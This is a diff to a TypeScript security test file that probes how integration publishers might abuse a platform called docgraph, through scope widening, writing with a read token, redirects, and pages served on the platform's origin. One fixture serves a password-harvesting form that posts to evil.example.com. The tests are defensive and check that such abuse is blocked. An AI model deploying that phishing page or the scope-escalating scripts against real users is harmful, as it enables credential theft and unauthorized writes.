@@ -1,11 +1,11 @@
-// Abuse of integrations by their publishers: what an organization has not agreed to, writing by reading, and pages that
+// Abuse of integrations by their publishers: changes without consent, writes with a read scope, and pages that
 // look like docgraph.
 import { newId } from "#src/base/ids.ts";
 import { addToken } from "#test/features/tokens/factory.ts";
 import { type Answer, ask, asks, type Check, type Outcome, post, type Target } from "#test/live/abuse/target.ts";
 import { nextNumber } from "#test/support/rows.ts";
 
-/** A mutation that must succeed; its one field. */
+/** Runs a mutation that must succeed, and returns its payload. */
 async function done<Value>(target: Target, token: string, name: string, input: object, answer: string): Promise<Value> {
   const type = `${name.charAt(0).toUpperCase()}${name.slice(1)}Input`;
   const document = `mutation ($input: ${type}!) { done: ${name}(input: $input) { ${answer} } }`;
@@ -60,7 +60,7 @@ const outcome = (holds: boolean, ...answers: readonly Pick<Answer, "status" | "t
   evidence: answers.map(({ status, text }) => `${status} ${text.slice(0, 90)}`).join("; "),
 });
 
-/** Reads the space and comments on it, when it is asked for an answer or a block. */
+/** A script that reads the space and comments on it when it handles a request or renders a block. */
 const taking = (spaceId: string) => `export async function handle(event, { api }) {
   if (event.type !== "fetch" && event.type !== "ui_render") return;
   const { status } = await api.rest("GET", "/v1/spaces/${spaceId}");
@@ -76,7 +76,7 @@ const redirecting = (location: string) => () =>
 const page = `export const handle = () => ({ headers: { "content-type": "text/html" },
   body: "<form action=https://evil.example.com><input name=password></form><script>1</script>" });`;
 
-/** Each change of a publication that would give it more in an organization that installed it. */
+/** Changes of a publication that would widen its access in organizations that installed it. */
 const wider: Readonly<Record<string, object>> = {
   scopes: { scopes: ["SPACE_CONTENT_READ", "SPACE_CONTENT_WRITE"] },
   "scopes by a version of another runtime": { scopes: ["SPACE_CONTENT_WRITE"], runtime: "V2" },
@@ -102,9 +102,9 @@ export const scopeChecks: readonly Check[] = [
     const refusal = await made.develops({ tunnelUrl: "https://tunnel.example.com/", all: true });
     if (refusal !== null) return { holds: false, evidence: refusal }; // the gateway needs SECRETS_KEY for this
     const answer = await ask(made.endpoint);
-    return outcome(answer.text === "script", answer); // and 502, were the tunnel asked
+    return outcome(answer.text === "script", answer); // 502 if the tunnel were used
   }),
-  asks("fail", "a token of the scope READ that comments by a block", async (target) => {
+  asks("fail", "a token with the scope READ that writes a comment through a block", async (target) => {
     const made = await scene(target, taking, { scopes: ["SPACE_CONTENT_READ", "SPACE_CONTENT_WRITE"] });
     const { token } = await target.world.insert((rows) => addToken(rows, { userId: made.admin.id, scope: "read" }));
     const render = `{ renderIntegrationBlock(integrationName: "${made.name}", componentId: "x", context: { spaceId: "${made.space.id}" }) { element } }`;
@@ -123,13 +123,13 @@ export const scopeChecks: readonly Check[] = [
       return outcome(answer.status === 502 && !answer.headers.has("location"), answer);
     }),
   ),
-  asks("weak", "a page with a form and a script at the origin of docgraph", async (target) => {
+  asks("weak", "a page with a form and a script on the origin of docgraph", async (target) => {
     const { endpoint } = await scene(target, () => page);
     const answer = await ask(endpoint);
     const policy = answer.headers.get("content-security-policy") ?? "";
     return outcome(/(^|; )sandbox$/.test(policy), { status: answer.status, text: policy });
   }),
-  asks("weak", "a start in production without a host of its own for endpoints: a warning", async (target) => ({
+  asks("weak", "a production start without a separate host for endpoints: a warning", async (target) => ({
     holds: target.output().includes("INTEGRATIONS_URL is not set"),
     evidence: "a line of the log names INTEGRATIONS_URL",
   })),
